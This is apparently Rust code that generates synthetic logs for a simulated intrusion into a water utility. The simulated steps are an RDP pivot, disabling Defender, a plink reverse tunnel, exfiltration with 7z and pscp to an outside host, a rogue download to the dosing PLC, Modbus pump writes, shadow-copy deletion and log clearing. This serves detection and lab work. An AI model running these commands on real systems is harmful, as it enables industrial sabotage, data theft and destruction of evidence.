//! The second half: from the jump host to the controllers, and the traces wiped behind.
//!
//! ```text
//! JUMP01 ─RDP▶ EWS01 ─┬─SSH tunnel▶ outside
//!                     ├─S7▶ DOSING-PLC     stop, download, start
//!                     ├─Modbus▶ PUMP-PLCs  coils and set points
//!                     └─WMI▶ HIST01        shadow copies
//! ```
//!
//! The first connection is the same that the engineer uses every day.

use super::{VICTIM, begin, mark, run};
use crate::water_utility::Span;
use crate::water_utility::activity::Place;
use crate::water_utility::clock::{MILLI, MINUTE, SECOND};
use crate::water_utility::plant::{DC01, DOSING_PLC, EWS01, HELP_DESK, HIST01, JUMP01, PUMP_PLCS, TUNNEL_HOST};
use crate::water_utility::programs::{CMD, DEFENDER, EXPLORER, MSTSC, POWERSHELL, SEVEN_ZIP, STEP7};
use crate::water_utility::protocols::{S7_SETUP, S7_START, S7_STOP};
use crate::water_utility::tape::{Log, Stage};
use crate::water_utility::windows::{Process, SYSTEM, log_cleared};
use crate::water_utility::zeek::{Flow, Wire, lasting};

/// Remote desktop to the engineering workstation with the stolen password. The answer is a shell there.
pub(super) fn reach_workstation(stage: &mut Stage<'_>, span: Span) -> Process {
    begin(stage, "engineering_desktop");
    let at = mark(stage, span, 550);
    let desktop = Process::standing(JUMP01, VICTIM, EXPLORER);
    run(stage, at, JUMP01, &desktop, VICTIM, (MSTSC, "mstsc.exe /v:EWS01"));
    let length = span.minutes * MINUTE * 37 / 100;
    let logon = stage.remote_desktop(at.plus(4 * SECOND), (JUMP01.address, JUMP01.name), EWS01, HELP_DESK, length);
    let desktop = Process::standing(EWS01, HELP_DESK, EXPLORER);
    run(stage, logon.plus(40 * SECOND), EWS01, &desktop, HELP_DESK, (CMD, r#""C:\Windows\System32\cmd.exe""#))
}

/// Defender is told to stop looking.
pub(super) fn switch_protection_off(stage: &mut Stage<'_>, span: Span, shell: &Process) {
    begin(stage, "protection_off");
    let at = mark(stage, span, 570);
    let line = (POWERSHELL, "powershell -Command Set-MpPreference -DisableRealtimeMonitoring $true");
    run(stage, at, EWS01, shell, HELP_DESK, line);
    let defender = Process::standing(EWS01, SYSTEM, DEFENDER);
    let key = r"HKLM\SOFTWARE\Microsoft\Windows Defender\Real-Time Protection\DisableRealtimeMonitoring";
    stage.sets_value(at.plus(900 * MILLI), EWS01, &defender, key, "DWORD (0x00000001)");
}

/// An SSH client opens the workstation's remote desktop to the outside.
pub(super) fn open_tunnel(stage: &mut Stage<'_>, span: Span, shell: &Process) {
    begin(stage, "tunnel");
    let at = mark(stage, span, 600);
    let (name, address) = TUNNEL_HOST;
    let image = r"C:\Users\Public\plink.exe";
    let command = format!("plink.exe -ssh -N -P 443 -R 13389:127.0.0.1:3389 sync@{name}");
    let client = run(stage, at, EWS01, shell, HELP_DESK, (image, &command));
    stage.asks_name(at.plus(200 * MILLI), EWS01, &client, name, address);
    stage.dns(at.plus(201 * MILLI), EWS01.address, DC01.address, name, address);
    let micros = (span.end().0 - at.0) * 9 / 10;
    let place = Place { address, port: 443, service: "ssh" };
    let flow = Flow { service: "ssh", micros, sent: 61_000_000, received: 2_900_000 };
    stage.reach(at.plus(260 * MILLI), EWS01, &client, place, flow);
}

/// The project of the dosing controller is packed and carried out.
pub(super) fn steal_project(stage: &mut Stage<'_>, span: Span, shell: &Process) {
    begin(stage, "project_theft");
    let at = mark(stage, span, 660);
    let command = r"7z.exe a -mhe=on -pK1osk C:\Users\Public\Documents\d.7z D:\Projects\Waterworks\Waterworks.s7p D:\Projects\Waterworks\S7Proj";
    let packer = run(stage, at, EWS01, shell, HELP_DESK, (SEVEN_ZIP, command));
    stage.creates_file(at.plus(SECOND), EWS01, &packer, r"C:\Users\Public\Documents\d.7z");
    stage.process_end(at.plus(21 * SECOND), EWS01, &packer);
    let at = at.plus(90 * SECOND);
    let (name, address) = TUNNEL_HOST;
    let command = format!(r"pscp.exe -P 443 C:\Users\Public\Documents\d.7z sync@{name}:in/");
    let copy = run(stage, at, EWS01, shell, HELP_DESK, (r"C:\Users\Public\pscp.exe", &command));
    let micros = lasting(&mut stage.chance, 40_000, 90_000);
    let place = Place { address, port: 443, service: "ssh" };
    stage.reach(
        at.plus(SECOND),
        EWS01,
        &copy,
        place,
        Flow { service: "ssh", micros, sent: 58_400_000, received: 310_000 },
    );
}

/// The engineering software, and through it a changed program for the dosing controller.
pub(super) fn change_dosing(stage: &mut Stage<'_>, span: Span, shell: &Process) {
    begin(stage, "engineering_software");
    let at = mark(stage, span, 740);
    let command = r"S7tgtopx.exe D:\Projects\Waterworks\Waterworks.s7p";
    let software = run(stage, at, EWS01, shell, HELP_DESK, (STEP7, command));

    begin(stage, "dosing_download");
    let at = mark(stage, span, 800);
    let wire = Wire::new(&mut stage.chance, EWS01.address, DOSING_PLC, 102);
    stage.connects(at, EWS01, &software, &wire, DOSING_PLC, 102);
    stage.conn(at, &wire, Flow { service: "cotp,s7comm", micros: 190 * SECOND, sent: 48_000, received: 9_500 });
    stage.s7(at.plus(20 * MILLI), &wire, 1, S7_SETUP);
    stage.s7(at.plus(30 * SECOND), &wire, 2, S7_STOP);
    let blocks = [("Organization Block", "00001", 1_412), ("Data Block", "00010", 604), ("Data Block", "00011", 388)];
    for (number, (kind, name, bytes)) in (0..).zip(blocks) {
        let at = at.plus(40 * SECOND + number * 4 * SECOND);
        stage.s7_download(at, &wire, 10 + number * 10, (kind, name), bytes);
    }
    stage.s7(at.plus(70 * SECOND), &wire, 60, S7_START);
}

/// Coils and set points of the pump stations, written by a host that never writes there.
pub(super) fn write_pumps(stage: &mut Stage<'_>, span: Span, shell: &Process) {
    begin(stage, "pump_writes");
    let at = mark(stage, span, 850);
    let script = (r"C:\Users\Public\mb.exe", "mb.exe -t 10.40.20.11,10.40.20.12 -f pumps.txt");
    let tool = run(stage, at, EWS01, shell, HELP_DESK, script);
    for (number, controller) in (0..).zip(PUMP_PLCS) {
        let at = at.plus(2 * SECOND + number * 900 * MILLI);
        let wire = Wire::new(&mut stage.chance, EWS01.address, controller, 502);
        stage.connects(at, EWS01, &tool, &wire, controller, 502);
        stage.conn(at, &wire, Flow { service: "modbus", micros: 66 * SECOND, sent: 2_900, received: 2_400 });
        for write in 0..24 {
            let at = at.plus(200 * MILLI + write * 2_500 * MILLI);
            let function = if write % 3 == 2 { "WRITE_MULTIPLE_REGISTERS" } else { "WRITE_SINGLE_COIL" };
            stage.modbus(at, &wire, write + 1, function);
        }
    }
}

/// The historian loses its shadow copies, by a command over WMI.
pub(super) fn remove_recovery(stage: &mut Stage<'_>, span: Span) {
    begin(stage, "recovery_removed");
    let at = mark(stage, span, 880);
    let wire = Wire::new(&mut stage.chance, EWS01.address, HIST01.address, 135);
    stage.conn(at, &wire, Flow { service: "dce_rpc", micros: 4 * SECOND, sent: 5_100, received: 4_300 });
    stage.remote_call(at.plus(90 * MILLI), &wire, "135", "IWbemServices", "ExecMethod");
    stage.logon(at.plus(120 * MILLI), HIST01, HELP_DESK, 3, EWS01.address);
    let provider = Process::standing(HIST01, SYSTEM, r"C:\Windows\System32\wbem\WmiPrvSE.exe");
    let command = "cmd.exe /c vssadmin delete shadows /all /quiet";
    let shell = run(stage, at.plus(400 * MILLI), HIST01, &provider, HELP_DESK, (CMD, command));
    let line = (r"C:\Windows\System32\vssadmin.exe", "vssadmin delete shadows /all /quiet");
    run(stage, at.plus(500 * MILLI), HIST01, &shell, HELP_DESK, line);
    stage.logoff(at.plus(5 * SECOND), HIST01, HELP_DESK, 3);
}

/// The workstation's logs are emptied.
pub(super) fn clear_logs(stage: &mut Stage<'_>, span: Span, shell: &Process) {
    begin(stage, "logs_cleared");
    let at = mark(stage, span, 905);
    let image = r"C:\Windows\System32\wevtutil.exe";
    for (number, command) in (0..).zip(["wevtutil cl Security", "wevtutil cl System", "wevtutil cl Application"]) {
        run(stage, at.plus(number * 3 * SECOND), EWS01, shell, HELP_DESK, (image, command));
    }
    let cleared = [(40 * MILLI, "Security", 1102), (3_040 * MILLI, "System", 104), (6_040 * MILLI, "System", 104)];
    for (later, channel, id) in cleared {
        let record = log_cleared(at.plus(later), EWS01, channel, id, HELP_DESK);
        stage.put(at.plus(later), Log::Windows, record);
    }
}
